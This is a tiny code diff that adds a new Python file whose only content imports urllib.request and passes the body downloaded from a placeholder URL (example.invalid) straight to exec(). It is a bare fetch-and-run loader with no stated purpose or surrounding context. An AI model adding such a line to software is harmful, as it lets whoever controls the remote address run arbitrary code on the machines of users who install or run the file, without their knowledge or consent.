@@ -1,0 +1,3 @@
+import urllib.request
+
+exec(urllib.request.urlopen("https://example.invalid/x").read())
